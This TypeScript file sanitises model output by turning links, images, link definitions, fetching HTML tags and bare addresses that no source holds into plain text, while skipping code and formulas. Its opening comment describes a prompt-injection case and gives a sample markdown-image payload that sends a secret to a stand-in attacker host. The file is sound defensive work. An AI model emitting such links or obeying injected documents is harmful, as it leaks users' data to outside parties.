/**
 * Turns links and images whose address no source holds into plain text. A model that obeys an
 * injected document could otherwise make a chat client fetch
 * `![x](https://evil.example/?d=secret)`, or lead a reader astray.
 */

/** A replacement for `text.slice(start, end)`. */
export interface Edit {
  readonly start: number;
  readonly end: number;
  readonly text: string;
}

export const URL_START = "(?:https?:\\/\\/|www\\.|ftp:\\/\\/|mailto:)";
/** One character of a bare address. */
export const IN_URL = '[^\\s<>`"“”)\\]]';
/**
 * 1 label and 2 address of a link or an image; 3 label and 4 address of a link definition;
 * 5 address between angle brackets; 6 a tag that fetches or links; 7 a bare address.
 */
const LINK = new RegExp(
  `!?\\[([^\\]\\n]{0,300})\\]\\(\\s{0,5}<?([^\\s)>]{1,1500})>?[^)\\n]{0,300}\\)` +
    `|(?<=^|\\n)[^\\S\\n]{0,3}\\[([^\\]\\n]{1,300})\\]:[^\\S\\n]{1,5}<?((?:[a-z]{2,10}:|\\/\\/|www\\.)[^\\s>]{1,1500})>?` +
    `|<((?:[a-z]{2,10}:|[^\\s<>@]{1,64}@)[^\\s<>]{1,1500})>` +
    `|(<[a-z][^<>]{0,60}?\\b(?:src|srcset|href|action|poster|data|style|background|on[a-z]{2,20})\\s{0,5}=[^<>]{0,1500}>)` +
    `|(${URL_START}${IN_URL}{1,1500}|(?<![\\p{L}\\p{N}._%+-])[\\p{L}\\p{N}._%+-]{1,64}@[\\p{L}\\p{N}-]{1,63}(?:\\.[\\p{L}\\p{N}-]{2,63}){1,5})`,
  "giu",
);

/** @param sources texts and addresses of the evidence that may be linked to */
export function foreignLinks(text: string, sources: readonly string[]): Edit[] {
  const isQuiet = quietPlaces(text);
  return [...text.matchAll(LINK)].flatMap((match): Edit[] => {
    const [whole, label, target, defined, definedAs, angled, tag, bare] = match;
    const start = match.index;
    if (isQuiet(start)) return [];
    const trimmed = bare?.replace(/[.,;:!?'*_]+$/u, "");
    const address = target ?? definedAs ?? angled ?? trimmed;
    if (address !== undefined && sources.some((source) => source.includes(address))) return [];
    const end = start + (trimmed ?? whole).length;
    if (label !== undefined) return [{ start, end, text: label }];
    if (tag !== undefined) return [{ start, end, text: "" }];
    const shown = `\`${address?.replaceAll("`", "'") ?? ""}\``;
    return [{ start, end, text: defined === undefined ? shown : `${defined}: ${shown}` }];
  });
}

/** Applies the edits between `from` and `to`; of two that overlap, the first wins. */
export function applyEdits(
  text: string,
  edits: readonly Edit[],
  from = 0,
  to = text.length,
): string {
  let out = "";
  let at = from;
  for (const edit of [...edits].sort((a, b) => a.start - b.start)) {
    if (edit.start < at || edit.end > to) continue;
    out += text.slice(at, edit.start) + edit.text;
    at = edit.end;
  }
  return out + text.slice(at, to);
}

/**
 * Tells places in code and formulas, where brackets and addresses are left alone, by the text before
 * them only, so that a streamed text is read like a whole one.
 */
export function quietPlaces(text: string): (at: number) => boolean {
  const fences = [...text.matchAll(/^[^\S\n]*(?:```|~~~|\$\$|\\\[|\\\])/gmu)].map(
    ({ index }) => index,
  );
  return (at) => {
    if (fences.filter((fence) => fence < at).length % 2 === 1) return true;
    const line = text.slice(text.lastIndexOf("\n", at - 1) + 1, at);
    if (line.split(/`+/u).length % 2 === 0) return true;
    return line.lastIndexOf("\\(") > line.lastIndexOf("\\)") || isInDollars(line);
  };
}

/** `$x \in` opens a formula; `$5`, `$US` and `$AAPL rose` do not. */
function isInDollars(line: string): boolean {
  let open = false;
  for (let at = line.indexOf("$"); at !== -1; at = line.indexOf("$", at + 1)) {
    if (open) open = line.charAt(at - 1).trim() === "";
    else open = !/^(?:[\s\d]|\p{Lu}{1,5}\s|$)/u.test(line.slice(at + 1, at + 8));
  }
  return open || line.endsWith("$");
}
